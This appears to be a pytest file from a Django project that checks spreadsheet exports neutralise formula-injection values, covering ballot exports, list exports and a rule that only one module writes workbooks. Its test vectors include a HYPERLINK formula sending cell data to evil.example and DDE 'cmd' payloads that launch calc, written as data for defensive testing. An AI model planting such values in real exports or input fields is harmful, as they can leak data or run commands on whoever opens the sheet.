"""linli/core/exports.py: the one writer of every spreadsheet export; text from data is never a formula."""

from __future__ import annotations

import ast
import io
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from linli.core.exports import FORMULA_STARTS, is_formula_like, neutralise

ROOT = Path(__file__).resolve().parents[2]


# --- the neutraliser ---------------------------------------------------------------------------------


@given(st.text())
def test_neutralise_is_the_text_or_the_text_behind_an_apostrophe(text: str) -> None:
    out = neutralise(text)
    assert out in {text, "'" + text}
    assert not is_formula_like(out)
    assert neutralise(out) == out  # idempotent
    if not is_formula_like(text):
        assert out == text


@given(
    st.text(alphabet=" \u3000\u00a0", max_size=3),
    st.sampled_from(sorted(FORMULA_STARTS)),
    st.text(),
)
def test_every_trigger_is_neutralised_even_after_leading_spaces(space: str, trigger: str, rest: str) -> None:
    text = space + trigger + rest
    assert neutralise(text) == "'" + text


@given(st.sampled_from(["\t", "\r", "\n"]), st.text())
def test_a_leading_tab_or_carriage_return_is_neutralised(control: str, rest: str) -> None:
    assert neutralise(control + rest) == "'" + control + rest


@pytest.mark.parametrize("text", ["王五", "12.5", "a=b", "'=1+1", "", "  ", "E=mc2"])
def test_ordinary_text_is_unchanged(text: str) -> None:
    assert neutralise(text) == text


# --- the ballot export (issue 9, item 7: six vectors written as live formulas) -----------------------

VECTORS = {
    "title": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "owner": "=1+1",
    "owner_fullwidth": "＝cmd|' /C calc'!A0",
    "proxy_reason": "+SUM(1,2)",
    "paper_reason": "@SUM(1)",
    "client_key": "-2+3+cmd|' /C calc'!A0",
}


@pytest.mark.django_db
def test_ballot_export_writes_every_vector_as_plain_text(world: Any) -> None:
    from linli.consult.models import RollEntry
    from linli.consult.queries import ballots as q
    from linli.consult.services import ballots as svc
    from tests import factories as f
    from tests.consult.test_ballots_helpers import open_ballot, own_building

    cw = world.users["community_worker"]
    made = own_building(world)
    world.owner_a.name = VECTORS["owner"]
    world.owner_a.save()
    made["buyer"].name = VECTORS["owner_fullwidth"]
    made["buyer"].save()
    ballot = open_ballot(world, title=VECTORS["title"])
    resident = world.users["resident"]
    f.owner_account(resident, world.owner_a, by=cw)
    svc.cast_vote(resident, ballot, choice="yes", channel="online", client_key=VECTORS["client_key"])
    others = sorted(
        set(RollEntry.objects.filter(ballot=ballot).exclude(owner=world.owner_a).values_list("owner_key", flat=True))
    )
    svc.cast_vote(cw, ballot, choice="no", owner_key=others[0], channel="proxy", reason=VECTORS["proxy_reason"])
    svc.cast_vote(cw, ballot, choice="abstain", owner_key=others[1], channel="paper", reason=VECTORS["paper_reason"])

    buf = io.BytesIO()
    q.export_workbook(cw, ballot, buf)
    buf.seek(0)
    wb = load_workbook(buf)
    found: dict[str, int] = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    # our own tally formulas, in the tally sheet's "spreadsheet" column only
                    assert ws.title == q.TALLY_SHEET and cell.column_letter == "F", (ws.title, cell.coordinate)
                    continue
                for name, vector in VECTORS.items():
                    if cell.value == "'" + vector:
                        assert cell.data_type == "s"
                        found[name] = found.get(name, 0) + 1
                    assert cell.value != vector, (ws.title, cell.coordinate, name)
    assert set(found) == set(VECTORS), found
    # the tally still recomputes in a spreadsheet, and the export still recomputes in Python
    assert str(wb[q.TALLY_SHEET]["F2"].value).startswith("=SUM(")
    buf.seek(0)
    q.recompute_from_workbook(buf)


# --- one writer --------------------------------------------------------------------------------------

# The importers read workbooks; places/importing.py and sensing/services/imports.py also write their
# blank templates (roster, devices), which hold only the template's own constant text (headers, an
# example row, instructions), never data.
ALLOWED = {"linli/core/exports.py", "linli/places/importing.py", "linli/sensing/services/imports.py"}


def _writes_workbooks(tree: ast.AST) -> bool:
    for node in ast.walk(tree):
        if (
            isinstance(node, ast.ImportFrom)
            and (node.module or "").startswith("openpyxl")
            and any(alias.name == "Workbook" for alias in node.names)
        ):
            return True
        if isinstance(node, ast.Attribute) and node.attr == "Workbook":
            return True
        if isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl.cell"):
            return True
    return False


def test_no_module_but_core_exports_writes_a_workbook() -> None:
    writers = set()
    for path in (ROOT / "linli").rglob("*.py"):
        rel = path.relative_to(ROOT).as_posix()
        if "/migrations/" in rel:
            continue
        if _writes_workbooks(ast.parse(path.read_text(encoding="utf-8"))):
            writers.add(rel)
    assert writers <= ALLOWED, writers - ALLOWED
    assert "linli/core/exports.py" in writers


def test_no_csv_writer_outside_core_exports() -> None:
    """There is no .csv export today; one must go through core.exports (add its writer there)."""
    for path in (ROOT / "linli").rglob("*.py"):
        rel = path.relative_to(ROOT).as_posix()
        if rel == "linli/core/exports.py":
            continue
        text = path.read_text(encoding="utf-8")
        assert "csv.writer" not in text and "csv.DictWriter" not in text, rel


def test_list_exports_neutralise_headers_and_cells_and_keep_numbers(tmp_path: Any) -> None:
    from decimal import Decimal

    from linli.core.exports import write_xlsx

    out = tmp_path / "x.xlsx"
    cols = [("=1+1 户数", lambda r: r[0]), ("b", lambda r: r[1]), ("c", lambda r: r[2])]
    write_xlsx(str(out), "s", cols, [(" ＋cmd", Decimal("-3.50"), -7)])
    ws = load_workbook(out).active
    assert ws is not None
    assert (ws["A1"].value, ws["A1"].data_type) == ("'=1+1 户数", "s")
    assert (ws["A2"].value, ws["A2"].data_type) == ("' ＋cmd", "s")
    assert ws["B2"].value == -3.5 and ws["B2"].data_type == "n"  # numbers stay numbers
    assert ws["C2"].value == -7 and ws["C2"].data_type == "n"
